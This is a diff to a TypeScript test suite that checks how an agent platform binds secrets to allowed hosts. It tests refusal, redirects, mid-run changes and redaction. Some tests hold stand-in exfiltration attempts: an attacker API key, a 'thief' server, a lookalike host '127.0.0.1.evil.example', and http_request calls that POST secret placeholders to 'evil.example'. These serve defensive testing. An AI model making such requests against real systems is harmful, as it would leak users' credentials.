@@ -21,7 +21,9 @@ const at = (server: ScriptedServer) => ({ host: '127.0.0.1', ports: [Number(new 
 const call = (name: string, given: Record<string, unknown> = {}) => ({ name, arguments: given })
 const headers = { 'x-token': { secretRef: 'secret/token' } }
 const ofSandbox: ManifestInput = {
-  ...{ isolation: 'runc', tools: ['exec'], secrets: [{ env: 'TOKEN', ref: 'secret/token' }] },
+  isolation: 'runc',
+  tools: ['exec'],
+  secrets: [{ env: 'TOKEN', ref: 'secret/token' }],
 }
 
 /** A sandbox in which every command prints the secret that it was given. */
@@ -34,10 +36,15 @@ function printing() {
     async open(run) {
       opened.push(run)
       const fixture: RunSandbox = {
-        ...{ offered: offer, kernelRelease: 'test', keep: async () => undefined, close: async () => undefined },
+        offered: offer,
+        kernelRelease: 'test',
+        keep: async () => undefined,
+        close: async () => undefined,
         run: async () => ({ stdout: run.env.TOKEN ?? 'nothing', stderr: '', exitCode: 0 }),
         pipe: () => Promise.reject(new Error('this test starts no program')),
-        ...{ serve: async () => undefined, writeFile: async () => undefined, listFiles: async () => [] },
+        serve: async () => undefined,
+        writeFile: async () => undefined,
+        listFiles: async () => [],
         readFile: async () => new Uint8Array(),
       }
       return fixture
@@ -52,14 +59,16 @@ async function fixture(
   answers: Parameters<typeof mcpFixture>[2],
   { also = [], ...options }: Parameters<typeof mcpFixture>[3] & { also?: string[] } = {},
 ) {
-  const [far, thief] = [await scriptedServer(), await scriptedServer()]
-  open.push(far, thief)
-  const on = await mcpFixture([far.origin, thief.origin, ...also], [], answers, options)
+  const [remote, thief] = [await scriptedServer(), await scriptedServer()]
+  open.push(remote, thief)
+  const on = await mcpFixture([remote.origin, thief.origin, ...also], [], answers, options)
   open.push(on)
   const scopes = ['agents:read', 'agents:write', 'runs:read', 'runs:write', 'runs:execute']
   const { rawKey } = await on.json<{ rawKey: string }>(201, 'POST', '/v1/api-keys', { name: 'attacker', scopes })
   return {
-    ...{ ...on, far, thief },
+    ...on,
+    remote,
+    thief,
     store: (change: object) => on.json<SecretItem>(200, 'PUT', '/v1/secrets/token', change),
     /** A version that the attacker publishes. */
     async attack(manifest: ManifestInput): Promise<{ status: number; error: string; paths: string[] }> {
@@ -81,7 +90,9 @@ describe('the binding of a secret', () => {
     const on = await fixture([])
     const hosts = [{ host: 'api.example.com', ports: [443] }]
     expect(await on.store({ value: VALUE, hosts: [{ host: 'API.example.com' }], tools: ['mcp'] })).toMatchObject({
-      ...{ name: 'token', hosts, tools: ['mcp'] },
+      name: 'token',
+      hosts,
+      tools: ['mcp'],
     })
     await on.store({ value: 'another value' })
     expect(await on.json(200, 'GET', '/v1/secrets')).toMatchObject([{ name: 'token', hosts, tools: ['mcp'] }])
@@ -109,10 +120,10 @@ describe('a secret in the header of an MCP server', () => {
 
   it('goes to the host that it is bound to', async () => {
     const on = await fixture(answers)
-    await on.store({ value: VALUE, hosts: [at(on.far)], tools: ['mcp'] })
-    expect(await on.attack(server(on.far))).toMatchObject({ status: 201 })
+    await on.store({ value: VALUE, hosts: [at(on.remote)], tools: ['mcp'] })
+    expect(await on.attack(server(on.remote))).toMatchObject({ status: 201 })
     expect((await on.run()).run.status).toBe('succeeded')
-    expect(on.far.calls[0]!.headers).toMatchObject({ 'x-token': VALUE })
+    expect(on.remote.calls[0]!.headers).toMatchObject({ 'x-token': VALUE })
   })
 
   it('goes to any host without a binding, as before', async () => {
@@ -127,20 +138,24 @@ describe('a secret in the header of an MCP server', () => {
     const on = await fixture(answers)
     await on.store({ value: VALUE })
     expect(await on.attack(server(on.thief))).toMatchObject({ status: 201 })
-    await on.store({ hosts: [at(on.far)] })
+    await on.store({ hosts: [at(on.remote)] })
     const refused = await on.attack(server(on.thief))
     expect(refused).toMatchObject({ status: 400, paths: ['manifest.mcpServers.0.headers.x-token.secretRef'] })
     expect(refused.error).toContain('the hosts of secret/token do not name 127.0.0.1 with the port')
-    for (const url of [on.far.url.replace('127.0.0.1', 'localhost'), 'https://127.0.0.1.evil.example/mcp'])
+    for (const url of [on.remote.url.replace('127.0.0.1', 'localhost'), 'https://127.0.0.1.evil.example/mcp'])
       expect(await on.attack(server({ url }))).toMatchObject({ status: 400 })
     const { run } = await on.run()
     expect(run).toMatchObject({ status: 'failed', error: { code: 'secret_refused' } })
     expect(run.error?.message).toContain('the hosts of secret/token do not name 127.0.0.1 with the port')
     expect((await on.json<AuditEntry[]>(200, 'GET', '/v1/audit-log'))[0]).toMatchObject({
-      ...{ actor: run.id, via: 'run', action: 'secretUse', target: 'secret/token for mcp', outcome: 'refused' },
+      actor: run.id,
+      via: 'run',
+      action: 'secretUse',
+      target: 'secret/token for mcp',
+      outcome: 'refused',
       reason: run.error?.message,
     })
-    expect([on.far.seen, on.thief.seen]).toEqual([[], []])
+    expect([on.remote.seen, on.thief.seen]).toEqual([[], []])
   })
 
   it('does not follow a redirect to another host', async () => {
@@ -165,40 +180,40 @@ describe('a secret in the header of an MCP server', () => {
 
   it('is refused at the next request after its binding was changed, in the middle of a run', async () => {
     const on = await fixture([says('', [call('mcp__far__look')]), says('', [call('mcp__far__write')]), says('done')])
-    on.far.onCall = async ({ name }) => {
+    on.remote.onCall = async ({ name }) => {
       await on.store({ hosts: [at(on.thief)] })
       return text(`${name} done`)
     }
-    await on.store({ value: VALUE, hosts: [at(on.far)] })
-    await on.publish(server(on.far))
+    await on.store({ value: VALUE, hosts: [at(on.remote)] })
+    await on.publish(server(on.remote))
     const { run } = await on.run()
     expect(run).toMatchObject({ status: 'failed', error: { code: 'secret_refused', stepId: 'mcp-2-1' } })
-    expect(on.far.calls.map(({ name }) => name)).toEqual(['look'])
+    expect(on.remote.calls.map(({ name }) => name)).toEqual(['look'])
   })
 
   it('is sent with its new value from the next request on, and struck out of what comes back', async () => {
     const on = await fixture([says('', [call('mcp__far__look')]), says('', [call('mcp__far__write')]), says('done')])
-    on.far.onCall = async ({ headers: came }) => {
+    on.remote.onCall = async ({ headers: came }) => {
       await on.store({ value: 'the-value-after-it' })
       return text(`you are ${String(came['x-token'])}`)
     }
     await on.store({ value: VALUE })
-    await on.publish(server(on.far))
+    await on.publish(server(on.remote))
     const { run, journal } = await on.run()
     expect(run.status).toBe('succeeded')
-    expect(on.far.calls.map(seen => seen.headers['x-token'])).toEqual([VALUE, 'the-value-after-it'])
+    expect(on.remote.calls.map(seen => seen.headers['x-token'])).toEqual([VALUE, 'the-value-after-it'])
     for (const word of [VALUE, 'the-value-after-it']) expect(JSON.stringify(journal)).not.toContain(word)
   })
 
   it('is refused where it is bound to sandboxes alone', async () => {
     const on = await fixture(answers)
     await on.store({ value: VALUE })
-    await on.publish(server(on.far))
+    await on.publish(server(on.remote))
     await on.store({ tools: ['sandbox'] })
-    const refused = await on.attack(server(on.far))
+    const refused = await on.attack(server(on.remote))
     expect(refused).toMatchObject({ status: 400, error: expect.stringContaining('secret/token is for sandbox alone') })
     expect((await on.run()).run).toMatchObject({ status: 'failed', error: { code: 'secret_refused' } })
-    expect(on.far.seen).toEqual([])
+    expect(on.remote.seen).toEqual([])
   })
 })
 
@@ -280,7 +295,9 @@ it('http_request puts no secret into an address, a header or a body, and shows a
   const names = ['secret/token', '{{secret/token}}', `\${TOKEN}`, '$TOKEN']
   const requests = names.map(name =>
     call('http_request', {
-      ...{ url: `https://evil.example/?q=${name}`, method: 'POST', body: name },
+      url: `https://evil.example/?q=${name}`,
+      method: 'POST',
+      body: name,
       headers: { 'x-token': name },
     }),
   )
